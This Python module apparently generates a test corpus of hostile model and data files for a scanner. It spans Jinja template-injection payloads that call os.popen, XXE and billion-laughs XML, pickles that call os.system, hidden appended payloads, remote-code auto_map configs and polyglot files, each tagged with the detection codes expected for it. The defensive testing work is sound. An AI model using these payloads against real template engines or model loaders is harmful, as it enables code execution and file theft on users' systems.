"""Hostile texts and tables: templates, GGUF, safetensors, Hugging Face, MLflow, skops, XML, boosters, R, Arrow."""

from __future__ import annotations

import base64
import gzip
import json
import struct
from collections.abc import Iterator
from typing import Any

import booster_samples as make
from corpora.hostile_containers import HONEST, REMOTE_SOURCE, remade
from corpora.units import (
    BOMB,
    BROKEN,
    CALLED,
    HIDDEN,
    NAMED,
    ODD,
    OPERATOR,
    OUTSIDE,
    PATH,
    REMOTE,
    TEMPLATE,
    YAML,
    Unit,
    unit,
)
from modelfile_samples import EVIL, PLAIN, call, safetensors, torch_zip, zipped
from shipworthy.modelfile import Code

SSTI = "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
TEMPLATES: dict[str, str] = {
    "subclasses": SSTI,
    "globals of self": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}",
    "mro": "{{ ''.__class__.__mro__[1] }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id') }}",
    "subscript": "{{ ''['__class__'] }}",
    "attr filter": "{{ ''|attr('__class__') }}",
    "attr filter, joined": "{{ ''|attr('__cl' ~ 'ass__') }}",
    "attr filter, reversed": "{{ ''|attr('__ssalc__'|reverse) }}",
    "attr filter, escapes": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr filter, format": "{{ ''|attr('%sclass%s'|format('__', '__')) }}",
    "attr filter, joined list": "{{ ''|attr(['__','class','__']|join) }}",
    "subscript, joined": "{{ ''['__cla' + 'ss__'] }}",
    "subscript, variable": "{% set x = '__class__' %}{{ ''[x] }}",
    "set, then attribute": "{% set c = ''.__class__ %}{{ c }}",
    "in a macro": "{% macro m(x) %}{{ x.__class__ }}{% endmacro %}{{ m('') }}",
    "in a call block": "{% call(x) f() %}{{ x.__globals__ }}{% endcall %}",
    "map filter": "{{ ['']|map(attribute='__class__')|list }}",
    "map attr": "{{ ['']|map('attr', '__class__')|list }}",
    "selectattr": "{{ ['']|selectattr('__class__.__base__')|list }}",
    "groupby": "{{ ['']|groupby('__class__') }}",
    "sort by attribute": "{{ ['']|sort(attribute='__class__') }}",
    "format string": "{{ '{0.__class__}'.format('') }}",
    "format_map": "{{ '{x.__class__}'.format_map({'x': ''}) }}",
    "generator's frame": "{{ (x for x in []).gi_frame.f_globals }}",
    "function's code": "{{ raise_exception.__code__ }}",
    "function's globals": "{{ raise_exception.__globals__ }}",
    "strftime's globals": "{{ strftime_now.__globals__ }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x.jinja' as x %}",
    "from": "{% from '../x.jinja' import y %}",
    "extends": "{% extends '/etc/passwd' %}",
    "loop of 10^12": "{% for x in range(1000000000000) %}{% endfor %}",
    "nested loops": "{% for x in range(99999) %}{% for y in range(99999) %}{% for z in range(99999) %}.{% endfor %}"
    "{% endfor %}{% endfor %}",
    "text of 10^12": "{{ 'x' * 1000000000000 }}",
    "padded": "{{ '%999999999999d' % 1 }}",
    "comment beside": "{# {{ messages }} #}{{ [].__class__ }}",
    "line statement": "{%- set x = [] -%}{{ x.append.__self__.__class__ }}",
    "block": "{% block x %}{{ self.x.__func__.__globals__ }}{% endblock %}",
    "config of flask": "{{ config.items() }}{{ request.application.__globals__ }}",
    "url_for": "{{ url_for.__globals__ }}",
    "raw, then out": "{% raw %}{{ x }}{% endraw %}{{ x.__class__ }}",
    "debug": "{% debug %}{{ ''.__class__ }}",
    "unicode underscores": "{{ x.\uff3f\uff3fclass\uff3f\uff3f }}",
    "not closed": "{{ ''.__class__ ",
}


def word(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(
    *pairs: tuple[str, object], tensors: bytes = b"", count: int = 0, declared: int = -1, version: int = 3
) -> bytes:
    out = word("general.architecture") + struct.pack("<I", 8) + word("llama")
    for key, value in pairs:
        out += word(key)
        if isinstance(value, bytes):
            out += value
        else:
            out += struct.pack("<II", 4, value) if isinstance(value, int) else struct.pack("<I", 8) + word(str(value))
    head = b"GGUF" + struct.pack("<IQQ", version, count, len(pairs) + 1 if declared < 0 else declared)
    return head + out + tensors


def gguf_tensor(name: str, dims: tuple[int, ...], kind: int = 0, offset: int = 0, count: int | None = None) -> bytes:
    shape = b"".join(struct.pack("<Q", size) for size in dims)
    return (
        word(name) + struct.pack("<I", len(dims) if count is None else count) + shape + struct.pack("<IQ", kind, offset)
    )


def templates() -> Iterator[Unit]:
    for key, text in TEMPLATES.items():
        codes = TEMPLATE | BOMB
        yield unit("Jinja", key, text.encode(), codes, "chat_template.jinja")
        config = {"tokenizer_class": "LlamaTokenizer", "chat_template": text}
        yield unit("tokenizer templates", key, json.dumps(config).encode(), codes, "tokenizer_config.json")
        yield unit("GGUF templates", key, gguf(("tokenizer.chat_template", text)), codes, "m.gguf")
    named = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": SSTI}]
    yield unit(
        "tokenizer templates",
        "list of templates",
        json.dumps({"chat_template": named}).encode(),
        TEMPLATE,
        "tokenizer_config.json",
    )
    yield unit(
        "tokenizer templates",
        "processor",
        json.dumps({"chat_template": SSTI}).encode(),
        TEMPLATE,
        "processor_config.json",
    )
    yield unit(
        "tokenizer templates",
        "chat_template.json",
        json.dumps({"chat_template": SSTI}).encode(),
        TEMPLATE,
        "chat_template.json",
    )
    yield unit(
        "GGUF templates",
        "named",
        gguf(("tokenizer.chat_template", "{{ messages }}"), ("tokenizer.chat_template.tool_use", SSTI)),
        TEMPLATE,
        "m.gguf",
    )
    listed = struct.pack("<IIQ", 9, 8, 1) + word(SSTI)
    yield unit("GGUF templates", "in an array", gguf(("tokenizer.chat_templates", listed)), TEMPLATE, "m.gguf")
    yield unit("GGUF templates", "no suffix", gguf(("tokenizer.chat_template", SSTI)), TEMPLATE, "model.bin")
    yield unit("GGUF templates", "another key", gguf(("evil.chat_template", SSTI)), TEMPLATE, "m.gguf")
    big = b"GGUF" + struct.pack(">IQQ", 3, 0, 1) + struct.pack(">Q", 23) + b"tokenizer.chat_template"
    big += struct.pack(">IQ", 8, len(SSTI)) + SSTI.encode()
    yield unit("GGUF templates", "big endian", big, TEMPLATE, "m.gguf")


def ggufs() -> Iterator[Unit]:
    body = bytes(64)

    def layout(key: str, *tensors: bytes, more: bytes = body) -> Unit:
        raw = gguf(tensors=b"".join(tensors), count=len(tensors))
        return unit("GGUF", key, raw + bytes(-len(raw) % 32) + more, BROKEN | ODD | BOMB, "m.gguf", True)

    yield unit("GGUF", "2^40 tensors", gguf(count=1 << 40), BROKEN | BOMB, "m.gguf", True)
    yield unit("GGUF", "2^63 values", gguf(declared=1 << 63), BROKEN | BOMB, "m.gguf", True)
    yield unit(
        "GGUF",
        "array nested 10,000 deep",
        gguf(("a", struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 10_000)),
        BROKEN | BOMB,
        "m.gguf",
        True,
    )
    yield unit("GGUF", "array of 2^60", gguf(("a", struct.pack("<IIQ", 9, 8, 1 << 60))), BROKEN | BOMB, "m.gguf", True)
    yield unit("GGUF", "unknown type of value", gguf(("a", struct.pack("<I", 77))), BROKEN, "m.gguf", True)
    yield unit("GGUF", "version 99", gguf(version=99), BROKEN, "m.gguf", True)
    yield unit("GGUF", "key twice", gguf(("a", 1), ("a", 2)), ODD, "m.gguf", True)
    yield unit("GGUF", "alignment 3", gguf(("general.alignment", 3)), BROKEN, "m.gguf", True)
    yield unit(
        "GGUF", "text beyond the file", gguf(("a", struct.pack("<IQ", 8, 1 << 50))), BROKEN | BOMB, "m.gguf", True
    )
    yield unit("GGUF", "pickle as a value", gguf(("a", struct.pack("<IIQ", 9, 0, len(EVIL)) + EVIL)), HIDDEN, "m.gguf")
    yield layout("1,000 dimensions", gguf_tensor("w", (1,), count=1000))
    yield layout("product overflows", gguf_tensor("w", (1 << 40, 1 << 40)))
    yield layout("offset beyond", gguf_tensor("w", (4,), offset=1 << 50))
    yield layout("offset not aligned", gguf_tensor("w", (4,), offset=7))
    yield layout("unknown type", gguf_tensor("w", (4,), 99))
    yield layout("no dimensions and blocks", gguf_tensor("w", (), 2))
    yield layout("half a block", gguf_tensor("w", (33,), 2))
    yield layout("overlap", gguf_tensor("v", (16,)), gguf_tensor("w", (8,), offset=32))
    yield layout("two of a name", gguf_tensor("w", (8,)), gguf_tensor("w", (8,), offset=32))
    yield layout("payload in a hole", gguf_tensor("w", (8,), offset=256), more=(EVIL + bytes(256))[:256] + bytes(32))
    yield layout("payload behind", gguf_tensor("w", (16,)), more=body + EVIL)
    yield layout("torch archive behind", gguf_tensor("w", (16,)), more=body + torch_zip(EVIL))


FLOAT = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}


def safe() -> Iterator[Unit]:
    def one(
        key: str,
        header: object,
        body: bytes = bytes(16),
        codes: frozenset[Code] = BROKEN | ODD,
        length: int | None = None,
    ) -> Unit:
        return unit("safetensors", key, safetensors(header, body, length), codes | BOMB, "model.safetensors", True)

    yield one("overlap", {"a": FLOAT, "b": {**FLOAT, "data_offsets": [8, 24]}}, bytes(24))
    yield one("out of range", {"a": {**FLOAT, "data_offsets": [0, 1 << 40]}})
    yield one("end before begin", {"a": {**FLOAT, "data_offsets": [16, 0]}})
    yield one("negative offset", {"a": {**FLOAT, "data_offsets": [-16, 0]}})
    yield one("offsets that are numbers with a point", {"a": {**FLOAT, "data_offsets": [0.0, 16.0]}})
    yield one("shape too large", {"a": {**FLOAT, "shape": [5]}})
    yield one("shape overflows", {"a": {**FLOAT, "shape": [1 << 40, 1 << 40]}})
    yield one("negative shape", {"a": {**FLOAT, "shape": [-2, -2]}})
    yield one("true in a shape", {"a": {**FLOAT, "shape": [4, True]}})
    yield one(
        "hole",
        {"a": FLOAT, "b": {**FLOAT, "data_offsets": [64, 80]}},
        bytes(16) + (EVIL + bytes(48))[:48] + bytes(16),
        HIDDEN,
    )
    yield one("hole in front", {"a": {**FLOAT, "data_offsets": [48, 64]}}, (EVIL + bytes(48))[:48] + bytes(16), HIDDEN)
    yield one("2^63 as the header's length", {"a": FLOAT}, length=1 << 63)
    yield one("header longer than the file", {"a": FLOAT}, length=10_000)
    yield one("header of 0", b"", length=0)
    yield one("archive behind", {"a": FLOAT}, bytes(16) + torch_zip(EVIL), HIDDEN)
    yield one("pickle behind", {"a": FLOAT}, bytes(16) + EVIL, HIDDEN)
    yield one(
        "pickle in the metadata", {"__metadata__": {"x": base64.b64encode(EVIL).decode()}, "a": {**FLOAT, "x": 1}}
    )
    yield one("metadata that is no text", {"__metadata__": {"x": {"y": 1}}, "a": FLOAT})
    yield one("100,000 deep", b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b"")
    yield one("no JSON", b"{" + b"\xff" * 40 + b"}", b"")
    yield one(
        "key twice",
        b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
    )
    yield one("unknown type", {"a": {**FLOAT, "dtype": "PYOBJ"}})
    yield one("unknown key", {"a": {**FLOAT, "__reduce__": "os.system"}})
    yield one("spaces before the header", b" " * 8 + json.dumps({"a": FLOAT}).encode())
    yield one(
        "payload behind the header's spaces", json.dumps({"a": FLOAT}).encode() + b"\0" + EVIL, codes=HIDDEN | BROKEN
    )
    index = {"metadata": {"total_size": 16}, "weight_map": {"w": "../../secret/x.bin"}}
    for key, path in {
        "upwards": "../../x.bin",
        "absolute": "/etc/passwd",
        "address": "https://example.invalid/x",
    }.items():
        raw = json.dumps({**index, "weight_map": {"w": path}}).encode()
        yield unit("safetensors", f"index {key}", raw, OUTSIDE, "model.safetensors.index.json")
        yield unit("safetensors", f"index {key}, pytorch", raw, OUTSIDE, "pytorch_model.bin.index.json")


def folders() -> Iterator[Unit]:
    config: dict[str, Any] = {"architectures": ["EvilModel"], "model_type": "evil"}
    for key, more in {
        "auto_map": {"auto_map": {"AutoModel": "modeling_evil.EvilModel"}},
        "auto_map elsewhere": {"auto_map": {"AutoModel": "attacker/repo--modeling_evil.EvilModel"}},
        "auto_map of a list": {"auto_map": {"AutoTokenizer": ["tokenization.Slow", "attacker/x--tok.Fast"]}},
        "auto_map in a part": {"text_config": {"auto_map": {"AutoModel": "x.Y"}}},
        "custom pipeline": {"custom_pipelines": {"x": {"impl": "evil.Pipeline", "pt": ["AutoModel"]}}},
        "trust_remote_code": {"trust_remote_code": True},
        "feature extractor": {"auto_map": {"AutoFeatureExtractor": "../x.Y"}},
    }.items():
        yield unit("Hugging Face", key, json.dumps({**config, **more}).encode(), REMOTE | PATH, "config.json")
    for key, body in {
        "diffusers pipeline": {
            "_class_name": ["evil", "Pipeline"],
            "_diffusers_version": "0.30.0",
            "unet": ["evil_unet", "UNet"],
        },
        "sentence transformers module": [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}],
        "adapter elsewhere": {
            "peft_type": "LORA",
            "base_model_name_or_path": "../../x",
            "auto_mapping": {"parent_library": "evil", "base_model_class": "X"},
        },
    }.items():
        file = {"diffusers pipeline": "model_index.json", "sentence transformers module": "modules.json"}.get(
            key, "adapter_config.json"
        )
        yield unit("Hugging Face", key, json.dumps(body).encode(), REMOTE | OUTSIDE | CALLED | NAMED, file)
    yield unit("Hugging Face", "training_args.bin", torch_zip(EVIL), CALLED, "training_args.bin")
    python = "flavors:\n  python_function:\n    loader_module: {}\n    {}\n    data: model.pkl\n"
    for key, (module, more) in {
        "own loader": ("evil_loader", "code: code"),
        "loader of a package": ("evilpkg.mlflow", "env: x"),
        "shell as a loader": ("os", "env: x"),
        "runpy as a loader": ("runpy", "env: x"),
        "loader of importlib": ("importlib", "env: x"),
        "code with a path": ("mlflow.sklearn", "code: ../../x"),
        "model with a path": ("mlflow.sklearn", "model_path: /etc/passwd"),
        "loader in quotes": ("'evil_loader'", "code: code"),
    }.items():
        yield unit(
            "MLflow", key, python.format(module, more).encode(), REMOTE_SOURCE | CALLED | NAMED | OUTSIDE, "MLmodel"
        )
    for tag in (
        "python/object/apply:os.system ['id']",
        "python/object/new:subprocess.Popen ['id']",
        "python/name:os.system",
    ):
        yield unit("MLflow", f"tag {tag}", f"flavors:\n  x: !!{tag}\n".encode(), YAML, "MLmodel")
    yield unit(
        "MLflow",
        "pickle of cloudpickle",
        call("cloudpickle.cloudpickle", "subimport", "os"),
        CALLED,
        "python_model.pkl",
    )


def skops() -> Iterator[Unit]:
    def one(key: str, node: dict[str, Any], *more: tuple[str, bytes], codes: frozenset[Code] = NAMED) -> Unit:
        empty = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "__id__": 2}
        schema = {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "key_types": empty,
            "content": {"a": node},
            "protocol": 2,
            "_skops_version": "0.13.0",
            "__id__": 1,
        }
        return unit("skops", key, zipped(("schema.json", json.dumps(schema).encode()), *more), codes | ODD, "m.skops")

    def node(loader: str, module: str, name: str, content: object, **more: Any) -> dict[str, Any]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "content": content, "__id__": 9, **more}

    for module, name in (
        ("os", "system"),
        ("builtins", "eval"),
        ("subprocess", "Popen"),
        ("numpy", "load"),
        ("evil", "run"),
        ("sklearn.datasets", "load_files"),
        ("joblib", "load"),
        ("operator", "attrgetter"),
    ):
        yield one(
            f"function {module}.{name}", node("FunctionNode", module, name, {"module_path": module, "function": name})
        )
        yield one(f"type {module}.{name}", node("TypeNode", module, name, {}))
        yield one(f"object {module}.{name}", node("ObjectNode", module, name, None))
        yield one(
            f"operator {module}.{name}", node("OperatorFuncNode", module, name, {"a": 1}, attrs={"__class__": "tuple"})
        )
        method = {"func": name, "obj": node("ObjectNode", module, "X", None)}
        yield one(f"method {module}.{name}", node("MethodNode", module, name, method))
        yield one(
            f"partial {module}.{name}",
            node(
                "PartialNode",
                "functools",
                "partial",
                {"func": node("FunctionNode", module, name, {"module_path": module, "function": name})},
            ),
        )
    yield one("methodcaller", node("OperatorFuncNode", "operator", "methodcaller", {"a": 1}))
    yield one("unknown loader", node("EvilNode", "builtins", "dict", {}))
    yield one("joblib inside", node("JoblibNode", "sklearn", "X", "x.pkl"), ("x.pkl", EVIL), codes=NAMED | HIDDEN)
    yield one(
        "array of objects",
        node("NdArrayNode", "numpy", "ndarray", "x.npy", type="numpy", file="x.npy"),
        ("x.npy", EVIL),
        codes=NAMED | HIDDEN,
    )
    yield one(
        "file with a path",
        node("NdArrayNode", "numpy", "ndarray", "x", type="numpy", file="../../x.npy"),
        codes=NAMED | PATH,
    )
    yield one(
        "declared type differs", node("FunctionNode", "numpy", "mean", {"module_path": "os", "function": "system"})
    )
    good = b'"__class__": "DecisionTreeClassifier"'
    yield unit(
        "skops",
        "class of an honest model exchanged",
        remade("llm/tree.skops", ("schema.json", good, b'"__class__": "EvilClassifier"')),
        NAMED,
        "m.skops",
    )


ENTITY = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE P [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
)


def xmls() -> Iterator[Unit]:
    codes = (
        ODD | BOMB | OUTSIDE | OPERATOR | CALLED | {Code.FOREIGN_CONTENT, Code.UNEXPLAINED_BYTES, Code.HIDDEN_PAYLOAD}
    )
    for key, data in {
        "entity": make.pmml("&x;", ENTITY),
        "laughs": make.pmml("&c;", LAUGHS),
        "external DTD": make.pmml("", '<!DOCTYPE P SYSTEM "http://x/x.dtd">'),
        "stylesheet": make.pmml("", '<?xml-stylesheet href="http://example.invalid/x.xsl"?>'),
        "script": make.pmml('<Extension name="x"><script>run()</script></Extension>'),
        "function of Java": make.pmml(
            '<TransformationDictionary><DerivedField name="x" optype="categorical" dataType="string"><Apply '
            'function="java.lang.Runtime.exec"><Constant>id</Constant></Apply></DerivedField></TransformationDictionary>'
        ),
        "unknown function": make.pmml(
            '<TransformationDictionary><DerivedField name="x" optype="categorical" dataType="string"><Apply '
            'function="evil"><Constant>id</Constant></Apply></DerivedField></TransformationDictionary>'
        ),
        "include": make.pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "100,000 deep": make.pmml("<Extension>" * 100_000 + "</Extension>" * 100_000),
        "payload behind": make.pmml("") + EVIL,
        "in UTF-16": make.pmml("&x;", ENTITY).decode().encode("utf-16"),
        "in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + make.pmml("&x;", ENTITY)[21:],
        "cut": make.pmml("")[:-9],
    }.items():
        yield unit("PMML", key, data, codes, "m.pmml")


def boosters() -> Iterator[Unit]:
    everything = BROKEN | ODD | BOMB | OUTSIDE | CALLED | NAMED | OPERATOR | {Code.FOREIGN_CONTENT}
    trees: dict[str, dict[str, Any]] = {
        "loop": {"left_children": [0, -1, -1]},
        "child beyond": {"left_children": [99, -1, -1]},
        "negative child": {"left_children": [-7, -1, -1]},
        "lengths differ": {"parents": [0]},
        "feature beyond": {"split_indices": [99, 0, 0]},
        "count differs": {"tree_param": {"num_nodes": "9999", "num_feature": "2"}},
    }
    for key, tree in trees.items():
        model = make.xgboost_model(**tree)
        yield unit("XGBoost", f"{key}, UBJSON", make.ubjson(model), everything, "m.ubj", True)
        yield unit("XGBoost", f"{key}, JSON", json.dumps(model).encode(), everything, "m.json", True)
    base = make.xgboost_model()
    for key, change in {
        "pickle in an attribute": {"attributes": {"scikit_learn": base64.b64encode(EVIL).decode()}},
        "old pickle in an attribute": {"attributes": {"x": "cos\nsystem\n(S'id'\ntR."}},
        "foreign objective": {"objective": {"name": "evil"}},
    }.items():
        model = {**base, "learner": {**base["learner"], **change}}  # type: ignore[dict-item]
        yield unit("XGBoost", f"{key}, UBJSON", make.ubjson(model), everything | HIDDEN, "m.ubj")
        yield unit("XGBoost", f"{key}, JSON", json.dumps(model).encode(), everything | HIDDEN, "m.json")
    for key, length in {"huge": 1 << 60, "negative": -1}.items():
        raw = b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x01a[$d#L" + struct.pack(">q", length) + bytes(20)
        yield unit("XGBoost", f"{key} array", raw, everything, "m.ubj", True)
    yield unit("XGBoost", "payload behind", make.ubjson(base) + EVIL, HIDDEN | ODD, "m.ubj", True)
    yield unit("XGBoost", "pickle as .model", call("os", "system", "id"), CALLED, "m.model")
    for name, changes in {
        "lightgbm-plain.txt": (
            (b"tree_sizes=", b"tree_sizes=9"),
            (b"num_leaves=", b"num_leaves=99999999"),
            (b"left_child=", b"left_child=9"),
            (b"split_feature=", b"split_feature=77"),
            (b"[forcedbins_filename: ]", b"[forcedbins_filename: /etc/passwd]"),
            (b"\nversion=", b"\nevil=1\nversion="),
        ),
        "catboost-plain.json": ((b'"features_info"', b'"evil": 1, "features_info"'), (b"[", b"[[")),
    }.items():
        raw = (HONEST / "boosters" / name).read_bytes()
        for number, (old, new) in enumerate(changes):
            if old in raw:
                yield unit("LightGBM, CatBoost", f"{name} {number}", raw.replace(old, new, 1), everything, name, True)
        yield unit("LightGBM, CatBoost", f"{name} payload behind", raw + EVIL, HIDDEN | BROKEN, name, True)
    cbm = (HONEST / "boosters/catboost-plain.cbm").read_bytes()
    yield unit(
        "LightGBM, CatBoost", "core beyond the file", cbm[:4] + b"\xf0\xff\xff\xff" + cbm[8:], everything, "m.cbm", True
    )
    yield unit("LightGBM, CatBoost", "payload behind the core", cbm + EVIL, HIDDEN | ODD, "m.cbm", True)


def r_data() -> Iterator[Unit]:
    run = make.r_call("system", make.r_text("id"))
    codes = CALLED | NAMED | {Code.REMOTE_CODE}
    for key, item in {
        "promise": make.r_promise(run),
        "promise in a list": make.r_vector(make.r_text("x"), make.r_promise(run)),
        "promise of eval": make.r_promise(make.r_call("eval", make.r_text("x"))),
        "closure": make.r_closure(run),
        "call": run,
        "promise of source": make.r_promise(make.r_call("source", make.r_text("https://example.invalid/x.R"))),
        "promise of a promise": make.r_promise(make.r_promise(run)),
        "symbol's value": make.r_vector(make.r_closure(make.r_call(".Call"))),
        "dyn.load": make.r_promise(make.r_call("dyn.load", make.r_text("/tmp/x.so"))),
    }.items():
        yield unit("R", key, make.rds(item), codes, "m.rds")
        yield unit("R", f"{key}, gzip", gzip.compress(make.rds(item)), codes, "m.rds")
        yield unit("R", f"{key}, RData", make.rds(item, b"RDX3\n"), codes | BROKEN, "m.RData")
    yield unit("R", "list of 2^31", make.rds(make.r_int(19) + make.r_int(0x7FFFFFFF)), BROKEN | BOMB, "m.rds", True)
    yield unit("R", "nested deep", make.rds((make.r_int(19) + make.r_int(1)) * 100_000), BROKEN | BOMB, "m.rds", True)
    yield unit("R", "pickle behind", make.rds(make.r_text("x")) + EVIL, HIDDEN, "m.rds", True)


def columns() -> Iterator[Unit]:
    raw = (HONEST / "columnar/nested.arrows").read_bytes()
    for name in (b"evil.types", b"arrow.py_e", b"pandas.obj"):
        yield unit(
            "Arrow, Parquet, Flax",
            f"extension {name.decode()}",
            raw.replace(b"arrow.uuid", name, 1),
            CALLED | NAMED | {Code.FOREIGN_CONTENT},
            "m.arrows",
        )
    old = b"cos\nsystem\n(tR."
    changed = raw.replace(b"arrow.uuid", b"evil.types", 1).replace(
        b"ARROW:extension:metadata", old + b" " * (24 - len(old)), 1
    )
    yield unit("Arrow, Parquet, Flax", "pickle in the metadata", changed, HIDDEN | NAMED, "m.arrows")
    odd = HIDDEN | BROKEN | BOMB | {Code.UNKNOWN_NAME, Code.FOREIGN_CONTENT}
    parquet = (HONEST / "columnar/frame.parquet").read_bytes()
    arrow = (HONEST / "columnar/frame.arrow").read_bytes()
    flax = (HONEST / "flax/params.msgpack").read_bytes()
    for key, data in {
        "Parquet's footer beyond": parquet[:-8] + b"\xff\xff\xff\x7fPAR1",
        "hole in Parquet": parquet.replace(b"PAR1", b"PAR1" + EVIL * 4, 1),
        "payload behind Parquet": parquet + EVIL,
        "payload behind Arrow": raw + EVIL,
        "Arrow's footer beyond": arrow[:-10] + b"\xff\xff\xff\x7fARROW1",
        "Arrow cut": raw[:-300],
        "payload behind Flax": flax + EVIL,
        "objects in Flax": flax.replace(b"\xa7float32", b"\xa7object_", 1),
        "wrong shape in Flax": flax.replace(b"\x92\x03\x04", b"\x92\x03\x7f", 1),
        "pickle in Flax": b"\x81\xa1a\xc4" + bytes([len(EVIL)]) + EVIL,
        "unknown extension in Flax": b"\x81\xa1a\xc7\x05\x63hello",
        "array of 2^32 in Flax": b"\x81\xa1a\xdd\xff\xff\xff\xff",
        "Flax 5,000 deep": b"\x81\xa1a" + b"\x91" * 5000 + b"\xc0",
        "pickle instead of Flax": EVIL,
    }.items():
        yield unit("Arrow, Parquet, Flax", key, data, odd, "m.bin", True)


def polyglots() -> Iterator[Unit]:
    zip_, st = torch_zip(EVIL), safetensors({"a": FLOAT}, bytes(16))
    for key, data in {
        "PNG and zip": b"\x89PNG\r\n\x1a\n" + bytes(40) + zip_,
        "JPEG and zip": b"\xff\xd8\xff\xe0" + bytes(40) + zip_,
        "PDF and zip": b"%PDF-1.7\n" + zip_,
        "GGUF and zip": gguf() + zip_,
        "safetensors and pickle": st + EVIL,
        "zip and safetensors": torch_zip(PLAIN) + st,
        "pickle and zip": PLAIN + zip_,
        "script and zip": b"#!/bin/sh\necho\nexit\n" + zip_,
        "text and pickle": b"# a model card\n" + EVIL,
        "JSON and pickle": b"{}\n" + EVIL,
        "JSON and zip": b'{"model_type": "llama"}' + zip_,
        "YAML and zip": b"a: 1\n" + zip_,
        "gzip and zip": gzip.compress(PLAIN) + zip_,
        "npy and zip": b"\x93NUMPY\x01\x00"
        + struct.pack("<H", 62)
        + b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,)}".ljust(61)
        + b"\n"
        + bytes(16)
        + zip_,
        "HDF5 behind zeros": bytes(512) + b"\x89HDF\r\n\x1a\n" + bytes(90),
        "tar and pickle": zipped(("a.tar", bytes(1024) + EVIL)),
        "zeros and pickle": bytes(4096) + EVIL,
        "XML and zip": make.pmml("") + zip_,
        "pickle of protocol 0 in JSON": b"(S'{\"a\": 1}'\n" + b"cos\nsystem\n" + b"(S'id'\ntR.",
    }.items():
        yield unit("polyglots", key, data, HIDDEN | BROKEN | {Code.FOREIGN_CONTENT}, "model.bin", True)


def texts() -> Iterator[Unit]:
    for source in (templates, ggufs, safe, folders, skops, xmls, boosters, r_data, columns, polyglots):
        yield from source()
